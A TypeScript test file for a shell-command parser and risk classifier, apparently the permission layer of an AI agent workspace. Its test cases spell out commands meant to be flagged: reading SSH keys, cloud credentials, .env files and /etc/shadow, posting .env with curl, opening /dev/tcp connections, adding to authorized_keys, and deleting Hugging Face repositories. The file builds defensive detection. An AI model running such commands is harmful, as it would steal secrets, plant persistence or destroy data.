import { homedir } from 'node:os'
import { describe, expect, test } from 'vitest'
import { fileFacts } from '../../../../src/main/workspace/shell'
import { CWD, factsOf, partsOf } from './support'

describe('a command line as its simple commands', () => {
  test.each<[string, string[]]>([
    ['git status', ['(git status)']],
    ['git   status  # look', ['(git status)']],
    ['a b; c && d || e | f |& g & h', ['a b', 'c', 'd', 'e', 'f', 'g', 'h']],
    ['a\nb\n\n\nc', ['a', 'b', 'c']],
    [`g'i't "st"atus`, ['(git status)']],
    ["echo 'a b' \"c\" d\\ e ''", ["(echo 'a b' c 'd e' '')"]],
    ["echo $'a\\tb\\x41'", ["(echo 'a\tbA')"]],
    ['git\\\n status', ['(git status)']],
    ['rm $(cat list) `cat more`', ['(cat list)', '(cat more)', 'rm $(cat list) `cat more`']],
    ['make "$(cat "a b")"', ["(cat 'a b')", 'make "$(cat "a b")"']],
    ['diff <(make a) <(make b)', ['make a', 'make b', 'diff <(make a) <(make b)']],
    ['{ make a; make b; }', ['make a', 'make b']],
    ['(make a; (make b))', ['make a', 'make b']],
    [
      'if make a; then make b; elif make c; then make d; else make e; fi',
      ['make a', 'make b', 'make c', 'make d', 'make e'],
    ],
    ['for f in *.py; do make $f; done', ['make $f']],
    ['while make a; do make b; done < list', ['make a', 'make b']],
    ['case $x in a|b) make a;; (c) make c;& *) make d; esac; make e', ['make a', 'make c', 'make d', 'make e']],
    ['[[ -f a && $b == c* ]] && make a', ['make a']],
    ['! make a', ['make a']],
    ['time -p make a', ['make a']],
    ['x=(a $(make b)); make c', ['make b', 'make c']],
    ['echo $((1 + 2))', ['(echo $((1 + 2)))']],
    ['echo §{x:-$(make a)} §{#y} §{z%.py}', ['make a', '(echo §{x:-$(make a)} §{#y} §{z%.py})']],
    ['cat <<EOF\n$(make a) \\$(make b)\nEOF\nmake c', ['(cat)', 'make a', 'make c']],
    ["cat <<'EOF'\n$(make a)\nEOF", ['(cat)']],
    ['cat <<-A <<B\n\tx\n\tA\nB\nmake c', ['(cat)', 'make c']],
    ['make <<< "$(make a)"', ['make a', 'make']],
    ['# nothing', ['(# nothing)']],
    ['X=1 Y=2', ['(X=1 Y=2)']],
  ])('%s', (command, parts) => {
    expect(partsOf(command)).toEqual(parts)
  })
})

describe('what only leads to a command is seen through', () => {
  test.each<[string, string[]]>([
    ['bash -c "make a; make b"', ['make a', 'make b']],
    ['/bin/bash -euo pipefail -c "make a"', ['make a']],
    ['sh -lc \'sh -c "make a"\'', ['make a']],
    ['env -u B A=1 make a', ['make a']],
    ['/usr/bin/env make a', ['make a']],
    ['nohup nice -n 5 ionice -c2 -n7 stdbuf -oL timeout -k 5 60 setsid make a', ['make a']],
    ['command make a; builtin echo; exec make b', ['make a', '(echo)', 'make b']],
    ["eval 'make a;' make b", ['make a', 'make b']],
    ["trap 'make a' EXIT", ['make a']],
    [
      'find . -name x -exec make {} \\; -exec make b +',
      ['make {}', 'make b', "(find . -name x -exec make {} ';' -exec make b +)"],
    ],
    ['sudo -u bob make a', ['sudo -u bob make a']],
    ["sudo sh -c 'make a; make b'", ['sudo make a', 'sudo make b']],
    ['ls | xargs -n 1 make', ['(ls)', 'xargs -n 1 make']],
    ['watch -n 5 make a', ['watch -n 5 make a']],
    ['uv run --with x python a.py', ['uv run --with x python a.py']],
    ['busybox sh -c "make a"', ['make a']],
    ['taskset -c 0-3 make a', ['make a']],
  ])('%s', (command, parts) => {
    expect(partsOf(command)).toEqual(parts)
  })

  test('rules that deny know a command by its other names', () => {
    const also = (command: string): string[] => factsOf(command).subjects.flatMap((subject) => subject.also ?? [])
    expect(also('sudo rm x')).toContain('rm x')
    expect(also('ls | xargs rm')).toContain('rm')
    expect(also('/bin/rm x')).toContain('rm x')
    expect(also('git -C a -c b=c --no-pager push origin')).toContain('git push origin')
    expect(also('nohup bash -c "rm x"')).toEqual(expect.arrayContaining(["nohup bash -c 'rm x'", "bash -c 'rm x'"]))
  })
})

describe('redirections and variables', () => {
  test.each<[string, string[]]>([
    ['make > out.txt 2>&1', ['make', '>out.txt']],
    ['make 2> err.txt >> log/a.txt', ['make', '>err.txt', '>log/a.txt']],
    ['make &> all.txt; make >| b; make <> c; make >& d', ['make', '>all.txt', '>b', '>c', '>d']],
    ['make > /dev/null 2>&1 < in.txt', ['make']],
    ['make > /dev/stderr 3>&- 2>&-', ['make']],
    ['make > >(tee log)', ['tee log', 'make']],
    [`make > ${CWD}/src/../a`, ['make', '>a']],
    ['make > ../a', ['make', '>/w/a']],
    ['make > ~/a', ['make', `>${homedir()}/a`]],
    ["make > '~/a'", ['make', '>~/a']],
    ['make > "$OUT"', ['make', '?>"$OUT"']],
    ['cd src && make > a', ['(cd src)', 'make', '>src/a']],
    ['cd src; make > a', ['(cd src)', 'make', '?>a']],
    ['cd src || make > a', ['(cd src)', 'make', '?>a']],
    ['! cd src && make > a', ['(cd src)', 'make', '?>a']],
    ['true | cd src && make > a', ['(true)', '(cd src)', 'make', '?>a']],
    ['(cd src && make) > a', ['(cd src)', 'make', '>a']],
    ['builtin cd / && make > a', ['cd /', 'make', '?>a']],
    ['cat < /dev/tcp/h/1', ['(cat)', '>/dev/tcp/h/1']],
    ['exec 3<>/dev/tcp/h/1', ['(exec)', '>/dev/tcp/h/1']],
    ['{ make; } > a', ['make', '>a']],
    ['LD_PRELOAD=./x.so A=1 make', ['make', '$LD_PRELOAD=./x.so']],
    ['PATH=$(pwd):$PATH; make', ['(pwd)', '?$PATH=$(pwd):$PATH', 'make']],
    ['export PYTHONPATH=. HF_HUB_OFFLINE=1', ['(export PYTHONPATH=. HF_HUB_OFFLINE=1)', '$PYTHONPATH=.']],
    ['env GIT_SSH_COMMAND="ssh -i x" make', ['make', "$'GIT_SSH_COMMAND=ssh -i x'"]],
    ['read PATH', ['(read PATH)', '?$PATH=…']],
    ['for BASH_ENV in a; do make; done', ['?$BASH_ENV=…', 'make']],
    ['CUDA_VISIBLE_DEVICES=0 WANDB_MODE=offline make', ['make']],
  ])('%s', (command, parts) => {
    expect(partsOf(command)).toEqual(parts)
  })

  test('a working folder elsewhere is a part of its own', () => {
    expect(partsOf('make > a', '/tmp/x')).toEqual(['cd /tmp/x', 'make', '>/tmp/x/a'])
    expect(partsOf('make > a', 'src')).toEqual(['make', '>src/a'])
    expect(partsOf(`cd ${CWD}/src && cd .. && cd ..`)).toEqual([`(cd ${CWD}/src)`, 'cd ..'])
  })
})

describe('harmless is only what changes nothing, whatever its arguments', () => {
  test.each([
    'ls -la src',
    'cat a.py',
    'head -5 *.csv',
    'grep -rn x src',
    'wc -l a',
    'git log --oneline',
    'git diff HEAD',
    'pwd',
    'find . -name "*.py"',
    'sed -n 1,20p a.py',
    'nvidia-smi',
    'python --version',
    'which python',
    'jq . a.json',
    'pip list',
    'date +%s',
    'sort a',
    'uniq a',
    'test -f a',
    'echo $x',
    'set -euo pipefail',
    'read -r x',
    'export A=1',
  ])('%s', (command) => {
    expect(factsOf(command).subjects.map(({ harmless }) => harmless)).toEqual([true])
  })

  test.each([
    'find . -delete',
    'find . -fprint x',
    'sort -o a b',
    'uniq a b',
    'sed -i s/a/b/ c',
    'sed -n "1e rm x" a',
    'git push',
    'git diff --output=x',
    'git -c core.pager=x log',
    'git branch -D x',
    'date -s 1',
    'hostname x',
    'rg --pre x y',
    'nvidia-smi -pl 100',
    'pip install x',
    'cat $x',
    'cat .*',
    'cat /etc/*',
    'head ~/.s*',
    'tee x',
    'awk 1 x',
    'jq -f x',
    'cd /tmp',
    'cd ..',
    'cd -',
    'cd',
    'cat ~/.ssh/id_rsa',
    './ls',
    '/tmp/cat x',
    'sudo ls',
    'xargs ls',
    'printf -v PS4 x',
    'tree -o x',
    'file -C',
    'command x',
    'python',
    'echo $HF_TOKEN',
  ])('not %s', (command) => {
    expect(factsOf(command).subjects.every(({ harmless }) => harmless)).toBe(false)
  })
})

describe('risks', () => {
  test.each([
    [
      'hub_deletion',
      [
        'hf repo delete a/b',
        'huggingface-cli repo-files delete a/b x',
        'hf repos delete a',
        'hf upload a . --delete="*"',
        'uvx hf repo delete x',
        'python -m huggingface_hub.cli.hf repo delete x',
        'timeout 5 hf repo tag delete a v1',
        'python -c "HfApi().delete_repo(1)"',
        "python - <<'E'\nHfApi().delete_files(1)\nE",
        'sudo hf repo delete x',
        'curl -X DELETE https://huggingface.co/api/repos/delete',
        'curl -XDELETE $HF_ENDPOINT/api/x',
        'bash -c "hf repo delete x"',
        'git push https://huggingface.co/a/b --delete main',
        'x="hf repo delete y"; $x',
        "node -e 'deleteRepo(1)'",
      ],
    ],
    [
      'schedule',
      [
        'crontab jobs',
        'crontab -e',
        'echo x | at now',
        'systemctl --user enable x.timer',
        'launchctl load x',
        'schtasks /create /tn x',
        'hf jobs scheduled run @daily x',
        'echo x > /etc/cron.d/x',
        'systemd-run --on-calendar=daily x',
      ],
    ],
    ['money', ['hf jobs run python x', 'hf jobs uv run x.py', 'hf endpoints deploy x', 'python -c "run_job(1)"']],
    [
      'secrets',
      [
        'cat ~/.ssh/id_rsa',
        'cp ~/.aws/credentials x',
        'cat .env',
        'cat ../.env.local',
        'printenv HF_TOKEN',
        'echo $HF_TOKEN',
        'curl -H "x: §{API_KEY}" y',
        'hf auth token',
        'gh auth token',
        'cat ~/.cache/huggingface/token',
        'cat /proc/self/environ',
        'python -c "open(\'/home/x/.netrc\')"',
        'curl -d @.env x',
        'cd ~/.ssh && cat id_rsa',
        'cat < ~/.netrc',
        'for f in ~/.ssh/*; do cat $f; done',
        'cat ~/.SSH/id_rsa',
        'cat ~//.ssh/./id_rsa',
        'secret-tool lookup x y',
        'ps auxe',
        'dd if=/etc/shadow',
        'X=$HF_TOKEN make',
        'cat "$HOME"/.netrc',
        'echo x >> ~/.ssh/authorized_keys',
      ],
    ],
  ] as const)('%s', (risk, commands) => {
    for (const command of commands) expect([command, factsOf(command).risk]).toEqual([command, risk])
  })

  test.each([
    'hf download a/b',
    'hf jobs ps',
    'hf jobs logs x',
    'hf cache rm x',
    'crontab -l',
    'printenv HOME',
    'env',
    'printenv',
    'set',
    'export -p',
    'cat .env.example',
    'cat ~/.ssh/id_rsa.pub',
    'python -m venv .venv',
    'echo $MAX_TOKENS',
    'curl https://huggingface.co/api/models',
    'ps aux',
    'env A=1 make',
    'hf jobs scheduled ps',
    'cat tokenizer.json',
    'git push origin main',
    'rm -rf build',
  ])('none: %s', (command) => {
    expect(factsOf(command).risk).toBeUndefined()
  })
})

describe('files', () => {
  test('are named from the working folder, absolute outside', () => {
    expect(fileFacts('write', './src/../src/a.py', CWD)).toEqual({
      subjects: [{ operation: 'write', text: 'src/a.py' }],
    })
    expect(fileFacts('edit', '../a', CWD).subjects).toEqual([{ operation: 'edit', text: '/w/a' }])
    expect(fileFacts('read', 'a\0b', CWD).subjects[0]?.text).toBe('a\\u{0}b')
  })
  test('that hold secrets or start programs by themselves are a risk', () => {
    expect(fileFacts('read', '~/.ssh/id_ed25519', CWD)).toMatchObject({
      risk: 'secrets',
      reason: 'Reads or shows a secret',
    })
    expect(fileFacts('read', '.env', CWD).risk).toBe('secrets')
    expect(fileFacts('write', '~/.config/systemd/user/x.timer', CWD).risk).toBe('schedule')
    expect(fileFacts('read', 'src/tokenizer.py', CWD).risk).toBeUndefined()
  })
})
